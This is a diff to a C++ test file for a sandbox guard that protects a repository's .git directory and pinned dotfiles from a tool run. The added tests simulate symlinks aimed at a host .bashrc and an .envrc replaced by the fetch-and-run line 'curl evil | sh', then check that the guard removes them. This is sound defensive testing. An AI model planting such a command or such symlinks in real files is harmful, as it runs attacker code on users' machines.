@@ -104,10 +104,10 @@ TEST(GuardNames, TheList) {
 TEST(GuardNames, GitWritable) {
   for (const char* n : {"objects", "refs", "logs", "index", "HEAD", "ORIG_HEAD", "index.lock",
                         "sharedindex.abc", "packed-refs", "COMMIT_EDITMSG", "packed-refs.new", "index.stash.12278",
-                        "BISECT_LOG", "BISECT_START", "REBASE_HEAD", "MERGE_AUTOSTASH"})
+                        "REBASE_HEAD"})
     EXPECT_TRUE(gitWritable(n)) << n;
   for (const char* n : {"config", "hooks", "info", "commondir", "config.worktree", "worktrees", "modules",
-                        "rebase-merge", "sequencer", ".lock"})
+                        "rebase-merge", "sequencer", ".lock", "MERGE_AUTOSTASH", "BISECT_START", "BISECT_LOG"})
     EXPECT_FALSE(gitWritable(n)) << n;
 }
 
@@ -936,6 +936,25 @@ TEST_F(GuardPlanTest, WatchRemovesWhatGitWouldFollowBelowObjectsRefsAndLogs) {
   guard_.finish();
 }
 
+// Review (stop 47): the watches below a writable .git were given out depth first, refs before
+// logs, so a repository with hundreds of directories in refs/ (one the tool left in an earlier
+// run, or many branch namespaces) left logs unwatched, and a logs/HEAD symlink lived through the
+// run. The directories git appends and creates in by name are watched first.
+TEST_F(GuardPlanTest, ManyDirectoriesInRefsDoNotLeaveLogsUnwatched) {
+  TempTree host;
+  host.write(".bashrc", "mine\n");
+  t_.gitDir(".git");
+  t_.mkdir(".git/logs/refs/heads");
+  for (int i = 0; i < 300; ++i) t_.mkdir(".git/refs/n" + std::to_string(i) + "/x");
+  ASSERT_TRUE(planGitWrite());
+  stdfs::create_symlink(host / ".bashrc", t_ / ".git/logs/HEAD");
+  stdfs::create_symlink(host / ".bashrc", t_ / ".git/logs/refs/heads/main");
+  drain(guard_);
+  EXPECT_FALSE(t_.exists(".git/logs/HEAD"));
+  EXPECT_FALSE(t_.exists(".git/logs/refs/heads/main"));
+  guard_.finish();
+}
+
 // After lost events a directory moved in is known only by where its watch had it: one moved from
 // the top of the mount into logs is removed by the listing as the rename's own event would have.
 TEST_F(GuardPlanTest, ADirectoryMovedIntoLogsWhileEventsWereLostIsRemoved) {
@@ -1059,6 +1078,29 @@ TEST_F(GuardPlanTest, AnInodeFreedOutsideTheSandboxIsNotTakenForYours) {
   std::stringstream envrc;
   envrc << std::ifstream(t_ / ".envrc").rdbuf();
   EXPECT_EQ(envrc.str(), "export A=1\n") << (reused ? "the tool's file got your .envrc's inode number" : "");
+}
+
+// Review (stop 47): after lost events the listing skipped every name that was a guarded entry
+// before the run, by name. What replaced a pinned file from outside the sandbox while the queue
+// was full has no pin, so the tool could write to it until the run ended. Only the same inode is
+// skipped now.
+TEST_F(GuardPlanTest, AfterLostEventsAPinnedNameWithAnotherInodeIsRemoved) {
+  t_.write(".envrc", "export A=1\n");
+  t_.write("a");
+  plan();
+  ASSERT_GE(guard_.watchFd(), 0);
+  guard_.setRescanGapMs(0);
+  overflowQueue(t_);
+  t_.write(".envrc.new", "curl evil | sh\n");
+  stdfs::rename(t_ / ".envrc.new", t_ / ".envrc");  // its event is lost with the rest
+  drain(guard_);
+  std::stringstream during;
+  during << std::ifstream(t_ / ".envrc").rdbuf();
+  EXPECT_NE(during.str(), "curl evil | sh\n") << "left for the tool to write to while the run lasts";
+  guard_.finish();
+  std::stringstream after;
+  after << std::ifstream(t_ / ".envrc").rdbuf();
+  EXPECT_EQ(after.str(), "export A=1\n");
 }
 
 TEST_F(GuardPlanTest, SymlinksArePinnedWithTheEmptyFile) {
